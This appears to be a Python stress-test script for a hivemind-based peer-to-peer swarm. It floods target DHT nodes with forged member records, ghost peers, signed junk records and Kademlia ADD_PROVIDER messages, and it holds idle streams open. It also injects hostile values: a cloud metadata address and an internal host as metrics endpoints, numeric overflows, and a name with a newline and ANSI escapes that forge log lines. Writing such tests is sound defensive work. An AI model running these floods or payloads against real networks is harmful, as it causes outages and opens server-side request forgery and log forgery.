"""An outsider that attacks the nodes at ADDRESS until it is ended: one process for one attack.

python -m tests.benchmarks.siege.outsider ATTACK KEY ADDRESS [ADDRESS ...]

It uses hivemind without our checks. KEY: the file of its identity.
"""

from __future__ import annotations

import asyncio
import json
import os
import sys
import time
from collections.abc import AsyncIterator, Awaitable, Callable
from itertools import count
from pathlib import Path
from typing import Any

import msgpack
from hivemind.dht.node import DHTNode
from hivemind.dht.routing import DHTID
from hivemind.dht.validation import DHTRecord
from hivemind.p2p import P2P, PeerID
from hivemind.proto.dht_pb2 import FindRequest, StoreRequest
from hivemind.utils.multiaddr import Multiaddr

from peer.p2p.addresses import owner_of
from peer.p2p.dht.authors import Author
from peer.p2p.dht.whereabouts import KADEMLIA
from peer.p2p.protobuf import BYTES_FIELD, INT_FIELD, MANY, ONE, delimited, message_classes
from peer.p2p.reachability.circuit_messages import HOP
from peer.p2p.reachability.dialback import DIALBACK_PROTOCOL
from peer.p2p.reachability.relay import RELAY_PROTOCOL
from peer.swarm.directory import buckets, records
from peer.swarm.grouping.roster import GATHER_PROTOCOL
from peer.swarm.pairing.proposals import MEET_PROTOCOL
from peer.swarm.state_transfer.donor import STATE_PROTOCOL
from tests.swarm.programs.packets import packets

RUN = "demo"
PROTOCOLS = (MEET_PROTOCOL, STATE_PROTOCOL, GATHER_PROTOCOL, DIALBACK_PROTOCOL, RELAY_PROTOCOL, HOP, KADEMLIA)
GHOSTS = 6120
ABREAST = 32  # requests at once

_KADEMLIA = message_classes(
    "provider",
    {
        "Peer": [("id", 1, BYTES_FIELD, ONE), ("addrs", 2, BYTES_FIELD, MANY)],
        "Message": [("type", 1, INT_FIELD, ONE), ("key", 2, BYTES_FIELD, ONE), ("providerPeers", 9, "Peer", MANY)],
    },
)


class Outsider:
    """``targets``: ids of the nodes that it attacks."""

    def __init__(self, p2p: P2P, node: DHTNode, targets: list[PeerID], author: Author) -> None:
        self.p2p, self.node, self.targets, self.author = p2p, node, targets, author
        self.me = p2p.peer_id.to_base58()

    # -- requests, one after the other for ever

    async def nested(self) -> AsyncIterator[StoreRequest]:
        """Attack 1, and other records that no member writes."""
        while True:
            for subkey, value, expires in packets(time.time()):
                for bucket in buckets.own_buckets(self.me)[:3]:
                    yield _store(records.members_key(RUN, bucket), [(subkey, value, expires)])

    async def ghosts(self) -> AsyncIterator[StoreRequest]:
        """Attacks 8 and 9: members that are not there, and records in the names of others, far ahead."""
        for number in count():
            peer_id = f"Qm{number % GHOSTS:044}".replace("0", "1")
            rows = [(msgpack.packb(peer_id + self.author.tag), msgpack.packb(_record(peer_id)), time.time() + 50)]
            for bucket in buckets.own_buckets(peer_id)[:8]:
                yield _store(records.members_key(RUN, bucket), rows)

    async def stores(self) -> AsyncIterator[StoreRequest]:
        """Attacks 10 and 12: records of its own under any number of keys, with its signature."""
        subkey = msgpack.packb(self.me + self.author.tag)
        for number in count():
            key = f"flood/{number}"
            blank = DHTRecord(DHTID.generate(source=key).to_bytes(), subkey, msgpack.packb("x" * 900), time.time() + 50)
            yield _store(key, [(subkey, self.author.validator.sign_value(blank), blank.expiration_time)])

    async def searches(self) -> AsyncIterator[FindRequest]:
        """As many keys a request as are answered."""
        keys = [DHTID.generate(source=str(number)).to_bytes() for number in range(120)]
        while True:
            yield FindRequest(keys=keys)

    async def strange(self) -> AsyncIterator[StoreRequest]:
        """Attacks 17 to 19: values, addresses and names that hurt who shows them."""
        subkey = msgpack.packb(self.me + self.author.tag)
        said = json.loads(_record(self.me))
        changes: list[dict[str, Any]] = [
            {"step": 10**400},
            {"tokens_per_second": 1.7e308, "report": {"seconds": 1.7e308, "idle_seconds": 1.7e308}},
            {"metrics": "169.254.169.254:80"},
            {"metrics": "prometheus:9090"},
            {"name": "a\nWARNING forged \x1b[31mred"},
        ]
        for number in count():
            text = json.dumps({**said, **changes[number % len(changes)]})
            bucket = buckets.own_buckets(self.me)[0]
            key = records.members_key(RUN, bucket)
            blank = DHTRecord(DHTID.generate(source=key).to_bytes(), subkey, msgpack.packb(text), time.time() + 20)
            yield _store(key, [(subkey, self.author.validator.sign_value(blank), blank.expiration_time)])
            await asyncio.sleep(1.0)

    # -- streams

    async def providers(self, target: PeerID) -> None:
        """Attack 3: ADD_PROVIDER to Kademlia."""
        _, reader, writer = await self.p2p.call_binary_stream_handler(target, KADEMLIA)
        while not reader.at_eof():
            peer = {"id": self.p2p.peer_id.to_bytes(), "addrs": [Multiaddr("/ip4/1.2.3.4/tcp/5").to_bytes()]}
            key = b"\x12\x20" + os.urandom(32)
            writer.write(delimited(_KADEMLIA["Message"](type=2, key=key, providerPeers=[peer])))
            await writer.drain()

    async def silent(self, target: PeerID) -> None:
        """Attacks 13 and 20: streams of every protocol on which it says nothing."""
        held = []
        for number in count():
            held.append(await self.p2p.call_binary_stream_handler(target, PROTOCOLS[number % len(PROTOCOLS)]))


REQUESTS = ("nested", "ghosts", "stores", "searches", "strange")
STREAMS = ("providers", "silent")


async def ask_for_ever(outsider: Outsider, name: str) -> None:
    """Each request goes to every target."""
    waiting: set[asyncio.Task[Any]] = set()
    async for request in getattr(outsider, name)():
        for target in outsider.targets:
            stub = outsider.node.protocol.get_stub(target)
            call = stub.rpc_find if isinstance(request, FindRequest) else stub.rpc_store
            waiting.add(asyncio.ensure_future(call(request, timeout=5.0)))
            if len(waiting) >= ABREAST:
                done, waiting = await asyncio.wait(waiting, return_when=asyncio.FIRST_COMPLETED)
                await asyncio.gather(*done, return_exceptions=True)


async def open_for_ever(attack: Callable[[PeerID], Awaitable[None]], target: PeerID) -> None:
    """Again and again, as it is turned away."""
    while True:
        try:
            await attack(target)
        except Exception as error:  # noqa: BLE001 - every failure has its own type
            print(type(error).__name__, error, flush=True)
            await asyncio.sleep(0.01)


def _store(key: str, rows: list[tuple[bytes, bytes, float]]) -> StoreRequest:
    return StoreRequest(
        keys=[DHTID.generate(source=key).to_bytes()] * len(rows),
        subkeys=[subkey for subkey, _, _ in rows],
        values=[value for _, value, _ in rows],
        expiration_time=[expires for _, _, expires in rows],
        in_cache=[False] * len(rows),
    )


def _record(peer_id: str) -> str:
    record = records.MemberRecord(
        peer_id=peer_id,
        name="ghost",
        addresses=["/ip4/203.0.113.7/tcp/31337"],
        config="0" * 16,
        state="training",
        step=100,
        round=10,
        tokens_per_second=1.0,
        metrics=None,
    )
    return record.model_dump_json(exclude_defaults=True)


async def main(name: str, key: str, addresses: list[str]) -> None:
    p2p = await P2P.create(initial_peers=[Multiaddr(it) for it in addresses], identity_path=key)
    node = await DHTNode.create(p2p, initial_peers=addresses, client_mode=True, ensure_bootstrap_success=False)
    targets = [PeerID.from_base58(owner_of(it)) for it in addresses]
    outsider = Outsider(p2p, node, targets, Author(Path(key)))
    print("attacks", flush=True)
    if name in REQUESTS:
        await ask_for_ever(outsider, name)
    await asyncio.gather(*(open_for_ever(getattr(outsider, name), target) for target in targets))


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], sys.argv[2], sys.argv[3:]))
